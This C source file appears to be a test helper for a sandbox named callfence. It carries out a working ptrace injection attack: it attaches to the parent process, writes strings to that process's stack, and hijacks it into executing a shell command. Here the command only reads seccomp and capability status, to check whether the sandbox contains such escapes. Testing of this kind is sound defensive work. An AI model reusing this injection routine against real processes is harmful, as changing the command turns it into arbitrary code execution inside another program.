/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * ptrace-parent OUTFILE [PID]: the attack of issue 9 §1.2, performed for real. Attach to PID
 * (default: getppid(), i.e. callfence's parent process), wait for the stop, and make it
 * execve("/bin/sh", {"sh", "-c", "grep -E 'Seccomp|CapEff' /proc/self/status > OUTFILE"}):
 * the registers point at the `syscall` instruction the tracee stopped behind, the strings go
 * below its stack pointer with PTRACE_POKEDATA. Prints one line and exits:
 *   "injected" 0 / "attach: <err>" 2 / "no syscall instruction" 3 / other failures 4.
 * x86_64 only (registers by name).
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

static int poke_bytes(pid_t pid, unsigned long addr, const void *buf, size_t len)
{
	const unsigned char *p = buf;

	for (size_t off = 0; off < len; off += sizeof(long)) {
		long word = 0;

		memcpy(&word, p + off, len - off < sizeof(long) ? len - off : sizeof(long));
		if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + off), (void *)word) < 0)
			return -errno;
	}
	return 0;
}

int main(int argc, char **argv)
{
#if defined(__x86_64__)
	struct user_regs_struct regs;
	char cmd[4096];
	unsigned long sp, a_path, a_c, a_cmd, a_argv, argvv[4];
	pid_t pid;
	long word;
	int st;

	if (argc < 2) {
		fprintf(stderr, "usage: ptrace-parent OUTFILE [PID]\n");
		return 4;
	}
	pid = argc > 2 ? (pid_t)atoi(argv[2]) : getppid();
	snprintf(cmd, sizeof(cmd), "grep -E 'Seccomp|CapEff' /proc/self/status > '%s'", argv[1]);
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
		printf("attach: %s\n", strerror(errno));
		return 2;
	}
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st)) {
		printf("wait: %s\n", strerror(errno));
		return 4;
	}
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0) {
		printf("getregs: %s\n", strerror(errno));
		return 4;
	}
	/* Stopped inside a syscall (wait4, rt_sigtimedwait...): rip is just past `syscall`. */
	errno = 0;
	word = ptrace(PTRACE_PEEKTEXT, pid, (void *)(regs.rip - 2), NULL);
	if (errno || (word & 0xffff) != 0x050f) {
		printf("no syscall instruction\n");
		(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
		return 3;
	}
	/* Well below the red zone and whatever the tracee keeps on its stack. */
	sp = (regs.rsp - 65536) & ~15UL;
	a_path = sp;
	a_c = a_path + 16;
	a_cmd = a_c + 16;
	a_argv = (a_cmd + strlen(cmd) + 1 + 15) & ~15UL;
	argvv[0] = a_path;
	argvv[1] = a_c;
	argvv[2] = a_cmd;
	argvv[3] = 0;
	if (poke_bytes(pid, a_path, "/bin/sh", 8) < 0 || poke_bytes(pid, a_c, "-c", 3) < 0 ||
	    poke_bytes(pid, a_cmd, cmd, strlen(cmd) + 1) < 0 ||
	    poke_bytes(pid, a_argv, argvv, sizeof(argvv)) < 0) {
		printf("poke: %s\n", strerror(errno));
		return 4;
	}
	regs.rip -= 2;
	regs.rax = SYS_execve;
	regs.orig_rax = (unsigned long)-1; /* no syscall restart on the way out of the stop */
	regs.rdi = a_path;
	regs.rsi = a_argv;
	regs.rdx = 0;
	regs.rsp = sp - 4096;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0) {
		printf("setregs: %s\n", strerror(errno));
		return 4;
	}
	if (ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0) {
		printf("detach: %s\n", strerror(errno));
		return 4;
	}
	printf("injected\n");
	fflush(stdout);
	/* Give the hijacked process the time to run the shell before we exit (our exit would
	 * end the run and the test would look too early). */
	sleep(2);
	return 0;
#else
	(void)argc, (void)argv;
	printf("x86_64 only\n");
	return 4;
#endif
}
